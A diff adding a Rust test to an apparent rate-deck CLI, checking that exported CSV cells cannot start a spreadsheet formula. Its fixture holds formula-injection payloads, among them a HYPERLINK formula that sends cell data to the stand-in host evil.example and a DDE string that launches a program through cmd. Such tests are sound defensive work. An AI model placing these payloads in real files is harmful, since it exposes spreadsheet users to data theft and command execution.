@@ -318,3 +318,26 @@ fn a_pipe_among_the_left_overs_is_removed_and_not_opened() {
     assert_eq!(run(&home, &["draft", "d.yaml", "-t", "md"]).0, 0);
     assert!(fs::symlink_metadata(&pipe).is_err());
 }
+
+// S12
+#[test]
+fn no_cell_of_a_deck_that_goes_out_is_a_formula() {
+    let deck = "flow,destination,codes,origin,route,rate,currency,increment\n\
+                hk,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"HK Mobile\"\")\",8525,@SUM(A1),cli,0.02,USD,1/1\n\
+                hk,-cmd|' /C calc'!A0,8526,+1 home,cli,0.03,USD,1/1\n";
+    let home = home(&[("deck.csv", deck)]);
+    let (code, out, err) = run(&home, &["rates", "export", "deck.csv"]);
+    assert_eq!(code, 0, "{err}");
+    let cells = |text: &str| -> Vec<String> {
+        // Whatever a comma cuts: nothing that follows one, or a quotation mark behind one, may be a sign of a formula.
+        text.lines().flat_map(|line| line.split(',').map(str::to_owned).collect::<Vec<_>>()).collect()
+    };
+    let found = cells(&out);
+    assert!(found.iter().any(|cell| cell.contains("HYPERLINK")), "{out}");
+    for cell in found {
+        assert!(!cell.trim_start_matches('"').starts_with(['=', '@', '+', '-']), "{cell} in\n{out}");
+    }
+    // It reads back as it was.
+    write(&home, "again.csv", &out);
+    assert_eq!(run(&home, &["rates", "export", "again.csv"]).1, out);
+}
